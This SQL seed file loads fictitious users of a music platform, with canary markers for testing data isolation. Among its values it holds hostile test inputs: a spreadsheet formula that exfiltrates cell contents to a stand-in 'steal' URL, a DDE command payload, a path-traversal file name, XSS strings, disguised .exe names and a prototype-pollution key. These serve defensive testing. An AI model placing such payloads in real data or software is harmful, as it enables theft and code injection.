-- A handful of fictitious people whose data is entangled, with hostile but possible values among it.
-- Each person has a canary (`canary-…`) in several records that only she may get, and a second one (`sealed-…`) in the
-- secret columns that nobody may get. apps/sandbox/src/product/people.ts names both.

SET search_path TO studio, public;

-- The same readable label always gives the same id, a well-formed UUID.
CREATE OR REPLACE FUNCTION pg_temp.uid(label text) RETURNS uuid IMMUTABLE LANGUAGE sql AS $$
  SELECT overlay(overlay(md5(label) PLACING '4' FROM 13) PLACING '8' FROM 17)::uuid
$$;
CREATE OR REPLACE FUNCTION pg_temp.acc(handle text) RETURNS uuid IMMUTABLE LANGUAGE sql AS $$
  SELECT pg_temp.uid('account:' || handle)
$$;

-- Two mailboxes are stored as people typed them: mixed case, a trailing space. `layla.music` is another Layla Haddad.
INSERT INTO accounts (id, number, email, email_verified, phone, password_hash, birth_date, language, credits,
                      clerk_user_id, stripe_customer_id, plan_valid_until, created_at) VALUES
  (pg_temp.acc('layla'), 9007199254740993, 'Layla@Example.COM', true, '+966 50 000 0101', 'argon2id$sealed-layla-19d4', '1994-02-28', 'ar', 12345678901234567890.12345678, 'user_example_layla', 'cus_example_layla', 'infinity', '2025-03-01 07:15:42.123456+00'),
  (pg_temp.acc('omar'), 9007199254740994, 'omar@example.com', true, '+966 50 000 0102', 'argon2id$sealed-omar-63b0', '1990-11-05', 'ar', 40, 'user_example_omar', 'cus_example_omar', '2027-01-01 00:00:00+03', '2025-03-02 18:00:00.000001+00'),
  (pg_temp.acc('noor'), 9007199254740995, 'noor@example.com ', true, NULL, 'argon2id$sealed-noor-a7c2', '1999-07-19', 'ar', 0.00000001, 'user_example_noor', NULL, NULL, '2025-04-11 09:30:00+00'),
  (pg_temp.acc('yusuf'), 9007199254740996, 'yusuf@example.org', false, '+971 50 000 0104', 'argon2id$sealed-yusuf-0f5e', NULL, 'ar', -3.5, NULL, NULL, NULL, '2025-06-30 22:59:59.999999+00'),
  (pg_temp.acc('dana'), 9007199254740997, 'dana@example.org', true, NULL, 'argon2id$sealed-dana-88e1', '1987-12-31', 'en', 7, 'user_example_dana', NULL, '2026-12-31 23:59:59+00', '2025-08-08 08:08:08+00'),
  (pg_temp.acc('layla.music'), 9007199254740998, 'layla@example.org', true, NULL, 'argon2id$sealed-namesake-5c77', '1994-02-28', 'ar', 1, 'user_example_namesake', 'cus_example_namesake', NULL, '2025-09-09 09:09:09+00');

INSERT INTO profiles (account_id, handle, display_name, bio, links, inferred_genres, settings, updated_at) VALUES
  (pg_temp.acc('layla'), 'layla', 'ليلى حداد', 'أكتب أغاني عن المدن والبحر. 🎵 canary-layla-7f3a', ARRAY['https://example.com/layla', 'a "quoted", {odd} link'], ARRAY['طرب', 'lo-fi'], '{"theme": "dark", "bigNumber": 12345678901234567890123456789, "ratio": 0.1000000000000000055, "__proto__": {"admin": true}}', '2026-10-02 10:00:00.000001+00'),
  (pg_temp.acc('omar'), 'omar', 'عمر نصّار', 'عازف عود. canary-omar-2c9e', ARRAY['https://example.com/omar'], ARRAY['شرقي'], '{"theme": "light"}', '2026-09-15 10:00:00+00'),
  (pg_temp.acc('noor'), 'noor', 'نور عزيز', 'canary-noor-b81d', '{}', ARRAY['pop'], '{}', '2026-09-20 10:00:00+00'),
  (pg_temp.acc('yusuf'), 'yusuf', 'يوسف كرم', 'canary-yusuf-54e0', '{}', '{}', '{}', '2026-01-20 10:00:00+00'),
  (pg_temp.acc('dana'), 'dana', 'Dana Whitfield', 'Producer. canary-dana-e6a2', ARRAY['https://example.org/dana'], ARRAY['ambient'], '{"theme": "system"}', '2026-02-20 10:00:00+00'),
  (pg_temp.acc('layla.music'), 'layla.music', 'ليلى حداد', 'لست ليلى الأخرى. canary-namesake-90cf', '{}', ARRAY['طرب'], '{}', '2026-03-20 10:00:00+00');

INSERT INTO songs (id, owner_id, title, length, genres, private, audio_key, audio_bytes, created_at) VALUES
  (pg_temp.uid('song:layla:1'), pg_temp.acc('layla'), 'ليل بيروت', '3 minutes 21.5 seconds', ARRAY['طرب', 'بوب'], false, 'songs/layla-1.wav', 31457280, '2025-05-01 20:00:00.5+00'),
  (pg_temp.uid('song:layla:2'), pg_temp.acc('layla'), 'على الرمل', '4 minutes 2 seconds', ARRAY['lo-fi'], false, 'songs/layla-2.wav', 28311552, '2025-07-14 20:00:00+00'),
  (pg_temp.uid('song:layla:3'), pg_temp.acc('layla'), '=HYPERLINK("https://example.com/steal?x="&A1,"اضغط هنا")', '1 minute', ARRAY['test,ing', '{odd}'], true, 'songs/layla-3.wav', 9223372036854775807, '2025-09-30 23:59:59.999999+00'),
  (pg_temp.uid('song:layla:4'), pg_temp.acc('layla'), E'أغنية \u202Egnos.exe\u202C canary-layla-7f3a', '2 hours 1.000001 seconds', '{}', true, 'songs/layla-4.wav', 1, '2026-01-31 21:30:00+00'),
  (pg_temp.uid('song:layla:5'), pg_temp.acc('layla'), 'أمي 👩‍👧 🎂', '00:02:59.999999', ARRAY['طفولة'], false, 'songs/layla-5.wav', 20971520, '2026-06-15 12:00:00+00'),
  (pg_temp.uid('song:omar:1'), pg_temp.acc('omar'), 'تقاسيم الفجر canary-omar-2c9e', '5 minutes', ARRAY['عود'], false, 'songs/omar-1.wav', 41943040, '2025-05-02 05:00:00+00'),
  (pg_temp.uid('song:omar:2'), pg_temp.acc('omar'), 'سفر', '3 minutes', '{}', false, 'songs/omar-2.wav', 25165824, '2026-04-02 05:00:00+00'),
  (pg_temp.uid('song:noor:1'), pg_temp.acc('noor'), 'مطر', '2 minutes 40 seconds', ARRAY['pop'], false, 'songs/noor-1.wav', 15728640, '2025-10-10 10:10:10+00'),
  (pg_temp.uid('song:yusuf:1'), pg_temp.acc('yusuf'), '-2+3 canary-yusuf-54e0', '1 minute 1 second', '{}', true, 'songs/yusuf-1.wav', 1048576, '2025-11-11 11:11:11+00'),
  (pg_temp.uid('song:dana:1'), pg_temp.acc('dana'), 'Low Tide', '6 minutes', ARRAY['ambient'], false, 'songs/dana-1.wav', 52428800, '2026-02-02 02:02:02+00'),
  (pg_temp.uid('song:layla.music:1'), pg_temp.acc('layla.music'), 'ليل بيروت', '3 minutes 21 seconds', '{}', false, 'songs/layla.music-1.wav', 31457281, '2026-03-03 03:03:03+00');

INSERT INTO lyrics (song_id, language, body, updated_at) VALUES
  (pg_temp.uid('song:layla:1'), 'ar', E'يا ليلَ بيروتَ الطويلْ\nهل في المدى بحرٌ بديلْ؟\ncanary-layla-7f3a', '2025-05-01 19:00:00+00'),
  (pg_temp.uid('song:layla:2'), 'ar', E'كتبتُ اسمَكَ على الرمل\nفجاء الموجُ وقرأه قبلي', '2025-07-14 19:00:00+00'),
  (pg_temp.uid('song:layla:5'), 'ar', E'"أمي"، قالت؛ والفاصلة، والسطر\r\nوعلامة التبويب\t لا تكسر الجدول', '2026-06-15 11:00:00+00'),
  (pg_temp.uid('song:omar:1'), 'ar', 'بلا كلمات. canary-omar-2c9e', '2025-05-02 04:00:00+00'),
  (pg_temp.uid('song:noor:1'), 'ar', 'مطرٌ على شبّاكنا canary-noor-b81d', '2025-10-10 10:00:00+00'),
  (pg_temp.uid('song:layla.music:1'), 'ar', 'كلمات أخرى canary-namesake-90cf', '2026-03-03 03:00:00+00');

INSERT INTO uploads (id, account_id, file_name, media_type, bytes, sha256, storage_key, recorded_on, uploaded_at) VALUES
  (pg_temp.uid('upload:layla:1'), pg_temp.acc('layla'), '../../etc/passwd', 'audio/wav', 4294967296, sha256('layla 1'), 'uploads/layla-1.wav', '2025-04-30', '2025-04-30 21:05:00+00'),
  (pg_temp.uid('upload:layla:2'), pg_temp.acc('layla'), 'تسجيل canary-layla-7f3a.wav', 'audio/wav', 9007199254740993, sha256('layla 2'), 'uploads/layla-2.wav', '0044-03-15 BC', '2025-07-13 21:05:00+00'),
  (pg_temp.uid('upload:layla:3'), pg_temp.acc('layla'), E'photo\u202Egnp.exe', 'image/png', 204800, '\x00ff10', 'uploads/layla-3.png', '-infinity', '2026-06-14 21:05:00+00'),
  (pg_temp.uid('upload:omar:1'), pg_temp.acc('omar'), 'canary-omar-2c9e.wav', 'audio/wav', 1048576, sha256('omar 1'), 'uploads/omar-1.wav', '2025-05-01', '2025-05-01 21:05:00+00'),
  (pg_temp.uid('upload:dana:1'), pg_temp.acc('dana'), 'canary-dana-e6a2.wav', 'audio/wav', 1048576, sha256('dana 1'), 'uploads/dana-1.wav', NULL, '2026-02-01 21:05:00+00');

INSERT INTO pictures (id, account_id, song_id, caption, width, height, thumbnail, storage_key, created_at) VALUES
  (pg_temp.uid('picture:layla:1'), pg_temp.acc('layla'), pg_temp.uid('song:layla:1'), 'غلاف "ليل بيروت"', 1024, 1024, '\x89504e470d0a1a0a0000000d49484452', 'pictures/layla-1.png', '2025-05-01 20:10:00+00'),
  (pg_temp.uid('picture:layla:2'), pg_temp.acc('layla'), NULL, '<img src=x onerror=alert(1)> canary-layla-7f3a', 512, 768, '\xffd8ffe000104a464946', 'pictures/layla-2.png', '2025-08-01 20:10:00+00'),
  (pg_temp.uid('picture:noor:1'), pg_temp.acc('noor'), pg_temp.uid('song:noor:1'), 'canary-noor-b81d', 512, 512, '\xffd8ffe0', 'pictures/noor-1.png', '2025-10-10 10:20:00+00');

INSERT INTO generations (id, account_id, prompt, model, parameters, seed, took, result_song_id, created_at) VALUES
  (pg_temp.uid('generation:layla:1'), pg_temp.acc('layla'), 'أغنية هادئة عن بيروت ليلًا بصوت امرأة', 'music-2', '{"tempo": 72, "key": "D minor", "voices": ["alto"]}', 340282366920938463463374607431768211455, '00:01:12.25', pg_temp.uid('song:layla:1'), '2025-05-01 19:55:00+00'),
  (pg_temp.uid('generation:layla:2'), pg_temp.acc('layla'), 'موج ورمل وناي', 'music-2', '{"tempo": 90.50}', 9007199254740993, '48 seconds', pg_temp.uid('song:layla:2'), '2025-07-14 19:55:00+00'),
  (pg_temp.uid('generation:layla:3'), pg_temp.acc('layla'), '@SUM(1+1)*cmd|'' /C calc''!A0', 'music-2', '{}', 0, '1 second', NULL, '2025-09-30 23:00:00+00'),
  (pg_temp.uid('generation:layla:4'), pg_temp.acc('layla'), 'صورة غلاف: بحر عند الغروب، ألوان مائية canary-layla-7f3a', 'picture-1', '{"size": [1024, 1024], "seed": 18446744073709551616}', 18446744073709551616, '7.000001 seconds', NULL, '2026-06-15 11:30:00+00'),
  (pg_temp.uid('generation:omar:1'), pg_temp.acc('omar'), 'عود منفرد canary-omar-2c9e', 'music-2', '{}', 5, '30 seconds', pg_temp.uid('song:omar:2'), '2026-04-02 04:00:00+00'),
  (pg_temp.uid('generation:yusuf:1'), pg_temp.acc('yusuf'), 'اختبار canary-yusuf-54e0', 'music-1', '{}', 6, '30 seconds', NULL, '2025-11-11 11:00:00+00'),
  (pg_temp.uid('generation:dana:1'), pg_temp.acc('dana'), 'slow tide, no drums canary-dana-e6a2', 'music-2', '{}', 7, '30 seconds', pg_temp.uid('song:dana:1'), '2026-02-02 01:00:00+00');

INSERT INTO explore_entries (song_id, visible, headline, plays, rank_score, published_at) VALUES
  (pg_temp.uid('song:layla:1'), true, 'ليل بيروت', 9223372036854775807, 0.30000000000000004, '2025-05-02 00:00:00+00'),
  (pg_temp.uid('song:layla:2'), true, 'على الرمل', 9007199254740993, 1e-300, '2025-07-15 00:00:00+00'),
  (pg_temp.uid('song:layla:5'), false, 'أمي', 12, 'NaN', '2026-06-16 00:00:00+00'),
  (pg_temp.uid('song:omar:1'), true, 'تقاسيم الفجر canary-omar-2c9e', 300, 4.2, '2025-05-03 00:00:00+00'),
  (pg_temp.uid('song:noor:1'), true, 'مطر', 40, 1.5, '2025-10-11 00:00:00+00');

INSERT INTO comments (id, song_id, author_id, in_reply_to, body, created_at) VALUES
  (9007199254740901, pg_temp.uid('song:layla:1'), pg_temp.acc('omar'), NULL, 'صوتك يشبه البحر يا ليلى canary-omar-2c9e', '2025-05-03 08:00:00+00'),
  (9007199254740902, pg_temp.uid('song:layla:1'), pg_temp.acc('layla'), 9007199254740901, 'شكرًا يا صديقي، واللحن من وحي عودك canary-layla-7f3a', '2025-05-03 08:05:00+00'),
  (9007199254740903, pg_temp.uid('song:layla:1'), pg_temp.acc('dana'), 9007199254740902, 'Gorgeous. <b>More!</b> canary-dana-e6a2', '2026-02-03 08:00:00+00'),
  (9007199254740904, pg_temp.uid('song:omar:1'), pg_temp.acc('layla'), NULL, '<script>alert("ليلى")</script>', '2025-05-04 08:00:00+00'),
  (9007199254740905, pg_temp.uid('song:omar:1'), pg_temp.acc('omar'), 9007199254740904, 'ما هذا؟ canary-omar-2c9e', '2025-05-04 08:30:00+00'),
  (9007199254740906, pg_temp.uid('song:noor:1'), pg_temp.acc('layla'), NULL, 'أحببت المطر في المقطع الثاني 🌧️', '2025-10-12 08:00:00+00'),
  (9007199254740907, pg_temp.uid('song:layla:2'), pg_temp.acc('noor'), NULL, 'أعيدي نشرها رجاءً canary-noor-b81d', '2025-10-13 08:00:00+00'),
  (9007199254740908, pg_temp.uid('song:layla:2'), pg_temp.acc('yusuf'), NULL, 'لم تعجبني canary-yusuf-54e0', '2025-11-12 08:00:00+00'),
  (9007199254740909, pg_temp.uid('song:layla.music:1'), pg_temp.acc('layla.music'), NULL, 'canary-namesake-90cf', '2026-03-04 08:00:00+00');

INSERT INTO follows (follower_id, followed_id, since) VALUES
  (pg_temp.acc('layla'), pg_temp.acc('omar'), '2025-05-03 08:01:00+00'),
  (pg_temp.acc('omar'), pg_temp.acc('layla'), '2025-05-03 08:00:30+00'),
  (pg_temp.acc('layla'), pg_temp.acc('noor'), '2025-10-12 08:01:00+00'),
  (pg_temp.acc('noor'), pg_temp.acc('layla'), '2025-10-13 08:01:00+00'),
  (pg_temp.acc('yusuf'), pg_temp.acc('layla'), '2025-11-12 08:01:00+00'),
  (pg_temp.acc('omar'), pg_temp.acc('noor'), '2025-11-13 08:01:00+00'),
  (pg_temp.acc('dana'), pg_temp.acc('omar'), '2026-02-04 08:01:00+00'),
  (pg_temp.acc('layla.music'), pg_temp.acc('omar'), '2026-03-05 08:01:00+00');

-- A note belongs to both, writer and invited, so it holds a canary only where nobody accepted.
-- A cycle: Layla invited Omar, Omar invited Noor, Noor (twice) invited Layla, who had an account and accepted all the same.
INSERT INTO invitations (id, invited_by, invitee_hash, code, note, accepted_by, accepted_at, resent_from, sent_at) VALUES
  (pg_temp.uid('invitation:layla:omar'), pg_temp.acc('layla'), sha256('omar'), 'sealed-layla-19d4-1', 'تعال نعزف معًا', pg_temp.acc('omar'), '2025-03-02 18:00:00+00', NULL, '2025-03-01 08:00:00+00'),
  (pg_temp.uid('invitation:layla:friend:1'), pg_temp.acc('layla'), sha256('friend'), 'sealed-layla-19d4-2', 'جرّب هذا الموقع canary-layla-7f3a', NULL, NULL, NULL, '2025-06-01 08:00:00+00'),
  (pg_temp.uid('invitation:layla:friend:2'), pg_temp.acc('layla'), sha256('friend'), 'sealed-layla-19d4-3', NULL, NULL, NULL, pg_temp.uid('invitation:layla:friend:1'), '2025-06-08 08:00:00+00'),
  (pg_temp.uid('invitation:omar:noor'), pg_temp.acc('omar'), sha256('noor'), 'sealed-omar-63b0-1', 'أهلًا بك يا نور', pg_temp.acc('noor'), '2025-04-11 09:30:00+00', NULL, '2025-04-10 08:00:00+00'),
  (pg_temp.uid('invitation:noor:layla:1'), pg_temp.acc('noor'), sha256('layla'), 'sealed-noor-a7c2-1', 'انضمي إلى قائمتنا', NULL, NULL, NULL, '2025-10-13 09:00:00+00'),
  (pg_temp.uid('invitation:noor:layla:2'), pg_temp.acc('noor'), sha256('layla'), 'sealed-noor-a7c2-2', 'أذكّرك بالدعوة', pg_temp.acc('layla'), '2025-10-20 10:00:00+00', pg_temp.uid('invitation:noor:layla:1'), '2025-10-20 09:00:00+00'),
  (pg_temp.uid('invitation:noor:yusuf'), pg_temp.acc('noor'), sha256('yusuf'), 'sealed-noor-a7c2-3', 'ستعجبك الموسيقى هنا', pg_temp.acc('yusuf'), '2025-06-30 22:59:59+00', NULL, '2025-06-30 09:00:00+00');

INSERT INTO playlists (id, owner_id, title, description, shared, created_at) VALUES
  (pg_temp.uid('playlist:layla:1'), pg_temp.acc('layla'), 'مسوّداتي', 'canary-layla-7f3a', false, '2025-05-05 10:00:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.acc('layla'), 'سهرة الخميس', 'نضيف إليها جميعًا', true, '2025-10-14 10:00:00+00'),
  (pg_temp.uid('playlist:omar:1'), pg_temp.acc('omar'), 'للطريق', NULL, true, '2025-12-01 10:00:00+00'),
  (pg_temp.uid('playlist:omar:2'), pg_temp.acc('omar'), 'canary-omar-2c9e', NULL, false, '2025-12-02 10:00:00+00'),
  (pg_temp.uid('playlist:dana:1'), pg_temp.acc('dana'), 'canary-dana-e6a2', NULL, false, '2026-02-05 10:00:00+00');

INSERT INTO playlist_members (playlist_id, account_id, role, joined_at) VALUES
  (pg_temp.uid('playlist:layla:1'), pg_temp.acc('layla'), 'owner', '2025-05-05 10:00:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.acc('layla'), 'owner', '2025-10-14 10:00:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.acc('omar'), 'editor', '2025-10-14 11:00:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.acc('noor'), 'editor', '2025-10-14 12:00:00+00'),
  (pg_temp.uid('playlist:omar:1'), pg_temp.acc('omar'), 'owner', '2025-12-01 10:00:00+00'),
  (pg_temp.uid('playlist:omar:1'), pg_temp.acc('layla'), 'listener', '2025-12-01 11:00:00+00'),
  (pg_temp.uid('playlist:omar:2'), pg_temp.acc('omar'), 'owner', '2025-12-02 10:00:00+00'),
  (pg_temp.uid('playlist:dana:1'), pg_temp.acc('dana'), 'owner', '2026-02-05 10:00:00+00');

INSERT INTO playlist_songs (playlist_id, song_id, position, added_by, added_at) VALUES
  (pg_temp.uid('playlist:layla:1'), pg_temp.uid('song:layla:3'), 1, pg_temp.acc('layla'), '2025-10-01 10:00:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.uid('song:omar:1'), 1, pg_temp.acc('layla'), '2025-10-14 10:01:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.uid('song:layla:1'), 2, pg_temp.acc('omar'), '2025-10-14 11:01:00+00'),
  (pg_temp.uid('playlist:layla:2'), pg_temp.uid('song:noor:1'), 3, pg_temp.acc('noor'), '2025-10-14 12:01:00+00'),
  (pg_temp.uid('playlist:omar:1'), pg_temp.uid('song:omar:2'), 1, pg_temp.acc('omar'), '2026-04-03 10:00:00+00');

INSERT INTO notifications (id, account_id, kind, actor_id, song_id, read, created_at) VALUES
  (pg_temp.uid('notification:layla:1'), pg_temp.acc('layla'), 'comment', pg_temp.acc('omar'), pg_temp.uid('song:layla:1'), true, '2025-05-03 08:00:00+00'),
  (pg_temp.uid('notification:layla:2'), pg_temp.acc('layla'), 'follow', pg_temp.acc('omar'), NULL, true, '2025-05-03 08:00:30+00'),
  (pg_temp.uid('notification:layla:3'), pg_temp.acc('layla'), 'comment', pg_temp.acc('noor'), pg_temp.uid('song:layla:2'), true, '2025-10-13 08:00:00+00'),
  (pg_temp.uid('notification:layla:4'), pg_temp.acc('layla'), 'comment', pg_temp.acc('yusuf'), pg_temp.uid('song:layla:2'), false, '2025-11-12 08:00:00+00'),
  (pg_temp.uid('notification:omar:1'), pg_temp.acc('omar'), 'comment', pg_temp.acc('layla'), pg_temp.uid('song:omar:1'), true, '2025-05-04 08:00:00+00');

INSERT INTO payments (id, account_id, stripe_customer_id, stripe_charge_id, invoice_number, payer_name, billing_country,
                      amount, currency, card_brand, card_last4, card_number, paid_on, paid_at) VALUES
  (pg_temp.uid('payment:layla:1'), pg_temp.acc('layla'), NULL, NULL, 'EX-2025-0001', 'ليلى حداد', 'SA', 39.9900, 'SAR', 'visa', '0101', 'sealed-layla-19d4-card', '2025-03-01', '2025-03-01 21:30:00+00'),
  (pg_temp.uid('payment:layla:2'), pg_temp.acc('layla'), 'cus_example_layla', 'ch_example_layla_1', 'EX-2026-0007', 'ليلى حداد canary-layla-7f3a', 'SA', 399.0000, 'SAR', 'mada', '0101', NULL, '2026-03-01', '2026-03-01 00:00:00+03'),
  (pg_temp.uid('payment:omar:1'), pg_temp.acc('omar'), 'cus_example_omar', 'ch_example_omar_1', 'EX-2026-0008', 'عمر نصّار canary-omar-2c9e', 'SA', 9999999999999999.9999, 'SAR', 'visa', '0102', 'sealed-omar-63b0-card', '2026-03-02', '2026-03-02 00:00:00+03'),
  -- Paid by Omar for Yusuf: the payer's name is not the account's.
  (pg_temp.uid('payment:yusuf:1'), pg_temp.acc('yusuf'), 'cus_example_omar', 'ch_example_omar_2', 'EX-2026-0009', 'عمر نصّار canary-yusuf-54e0', 'SA', 1.0000, 'SAR', 'visa', '0102', NULL, '2026-03-03', '2026-03-03 00:00:00+03');

-- Each of two tickets mentions the other person: a search by words would mix them up.
INSERT INTO support_tickets (id, account_id, subject, state, opened_at, solved_at) VALUES
  (4001, pg_temp.acc('layla'), 'نُشرت أغنيتي باسم شخص آخر', 'solved', '2025-11-20 09:00:00+00', '2025-11-22 15:00:00+00'),
  (4002, pg_temp.acc('yusuf'), 'بلاغ بخصوص ليلى حداد (layla@example.com)', 'open', '2025-11-21 09:00:00+00', NULL),
  (4003, pg_temp.acc('dana'), 'Invoice for layla@example.com was sent to me', 'solved', '2026-02-10 09:00:00+00', '2026-02-11 09:00:00+00');

INSERT INTO ticket_messages (id, ticket_id, from_staff, staff_name, body, sent_at) VALUES
  (1001, 4001, false, NULL, 'أظن أن يوسف نشر لحني من دون إذن. أرجو المساعدة. canary-layla-7f3a', '2025-11-20 09:00:00+00'),
  (1002, 4001, true, 'Employee One', 'شكرًا لرسالتك. راجعنا الأمر وأزلنا النسخة المكررة.', '2025-11-22 14:55:00+00'),
  (1003, 4001, false, NULL, 'شكرًا جزيلًا 🙏', '2025-11-22 15:00:00+00'),
  (1004, 4002, false, NULL, 'ليلى حداد اتهمتني ظلمًا. بريدها layla@example.com canary-yusuf-54e0', '2025-11-21 09:00:00+00'),
  (1005, 4003, false, NULL, 'Please check, I am not Layla. canary-dana-e6a2', '2026-02-10 09:00:00+00'),
  (1006, 4003, true, 'Employee Two', 'Sorted, thank you.', '2026-02-11 09:00:00+00');

-- Layla and Omar once signed in from the same place with the same browser.
INSERT INTO login_events (id, account_id, ip, "userAgent", device, session_token, risk_score, succeeded, logged_in_at) VALUES
  (pg_temp.uid('login:layla:1'), pg_temp.acc('layla'), '203.0.113.10', 'Mozilla/5.0 (Android 9; canary-layla-7f3a)', '{"model": "Old Phone 3", "os": "Android 9", "screen": [720, 1280]}', 'sealed-layla-19d4-a', 0.1, true, '2026-08-30 20:14:03.000001+00'),
  (pg_temp.uid('login:layla:2'), pg_temp.acc('layla'), '2001:db8:7f3a::1', 'Mozilla/5.0 (Macintosh)', '{"model": "Laptop", "os": "macOS 15"}', 'sealed-layla-19d4-b', 'NaN', true, '2026-10-01 07:00:00+00'),
  (pg_temp.uid('login:layla:3'), pg_temp.acc('layla'), '198.51.100.7/32', 'Mozilla/5.0 (shared)', '{"model": "Café PC", "os": "Linux"}', 'sealed-layla-19d4-c', 'Infinity', false, '2026-11-02 18:30:00.25+00'),
  (pg_temp.uid('login:omar:1'), pg_temp.acc('omar'), '198.51.100.7/32', 'Mozilla/5.0 (shared)', '{"model": "Café PC", "os": "Linux"}', 'sealed-omar-63b0-a', 0.2, true, '2026-11-02 18:40:00+00'),
  (pg_temp.uid('login:noor:1'), pg_temp.acc('noor'), '203.0.113.11', 'canary-noor-b81d', '{}', 'sealed-noor-a7c2-a', NULL, true, '2026-09-09 18:40:00+00'),
  (pg_temp.uid('login:namesake:1'), pg_temp.acc('layla.music'), '203.0.113.12', 'canary-namesake-90cf', '{}', 'sealed-namesake-5c77-a', NULL, true, '2026-09-10 18:40:00+00');

-- Layla changed her telephone: the id of the old cookie stays at Google.
INSERT INTO analytics_ids (account_id, client_id, first_seen) VALUES
  (pg_temp.acc('layla'), 'GA1.2.909090909.1650000009', '2025-03-01'),
  (pg_temp.acc('layla'), 'GA1.1.1010101010.1700000001', '2026-01-15'),
  (pg_temp.acc('omar'), 'GA1.1.2020202020.1700000002', '2025-03-02'),
  (pg_temp.acc('yusuf'), 'GA1.1.4040404040.1700000004', '2025-06-30');

INSERT INTO page_views (id, account_id, browser_id, path, referrer, seconds, viewed_at)
SELECT 9007199254740001 + n, pg_temp.acc('layla'), pg_temp.uid('browser:layla'), '/explore?page=' || n,
       CASE WHEN n % 5 = 0 THEN 'https://example.com/?q=canary-layla-7f3a' END, n + 0.125,
       timestamptz '2026-10-01 07:00:00.000001+00' + n * interval '37 minutes'
FROM generate_series(1, 40) AS n;
INSERT INTO page_views (id, account_id, browser_id, path, referrer, seconds, viewed_at) VALUES
  (9007199254740101, pg_temp.acc('layla'), pg_temp.uid('browser:cafe'), '/songs/new', NULL, 12.5, '2026-11-02 18:31:00+00'),
  (9007199254740102, NULL, pg_temp.uid('browser:cafe'), '/sign-in', NULL, 3, '2026-11-02 18:38:00+00'),
  (9007199254740103, pg_temp.acc('omar'), pg_temp.uid('browser:cafe'), '/explore?q=canary-omar-2c9e', NULL, 99999.999, '2026-11-02 18:41:00+00');

INSERT INTO consents (id, account_id, purpose, text_version, given_at, withdrawn_at, proof) VALUES
  (pg_temp.uid('consent:layla:1'), pg_temp.acc('layla'), 'terms', 'terms-2025-01', '2025-03-01 07:15:42+00', NULL, '{"button": "إنشاء الحساب", "ip": "203.0.113.10"}'),
  (pg_temp.uid('consent:layla:2'), pg_temp.acc('layla'), 'analytics', 'cookies-2025-02', '2025-03-01 07:16:00+00', '2026-05-05 12:00:00+00', '{"banner": "v2", "note": "canary-layla-7f3a"}'),
  (pg_temp.uid('consent:layla:3'), pg_temp.acc('layla'), 'marketing', 'news-2025-01', '2025-03-01 07:16:05+00', '2025-03-01 07:16:05.000001+00', '{"checkbox": true}'),
  (pg_temp.uid('consent:omar:1'), pg_temp.acc('omar'), 'ai-training', 'training-2025-01', '2025-03-02 18:01:00+00', NULL, '{"note": "canary-omar-2c9e"}'),
  (pg_temp.uid('consent:yusuf:1'), pg_temp.acc('yusuf'), 'terms', 'terms-2025-01', '2025-06-30 22:59:59+00', NULL, '{"note": "canary-yusuf-54e0"}'),
  (pg_temp.uid('consent:dana:1'), pg_temp.acc('dana'), 'terms', 'terms-2025-01', '2025-08-08 08:08:08+00', NULL, '{"note": "canary-dana-e6a2"}');
